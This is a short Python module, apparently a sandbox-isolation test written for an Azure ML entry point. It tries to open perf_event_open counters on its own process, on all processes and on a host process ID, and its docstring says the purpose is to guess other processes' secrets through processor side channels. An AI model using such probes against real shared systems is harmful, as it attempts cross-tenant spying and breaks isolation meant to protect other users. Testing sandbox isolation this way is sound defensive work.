"""Counts what the processor does, by which secrets of other processes can be guessed."""

import ctypes
import os
import struct

from attack import BAIT, attack, call, every


def count(pid):
    attributes = ctypes.create_string_buffer(struct.pack("<IIQQQQQ", 1, 112, 0, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(72))
    os.close(call("perf_event_open", attributes, pid, -1, -1, 0))
    return f"counts what {pid} does"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(count, [0, -1, BAIT["host_pid"]])
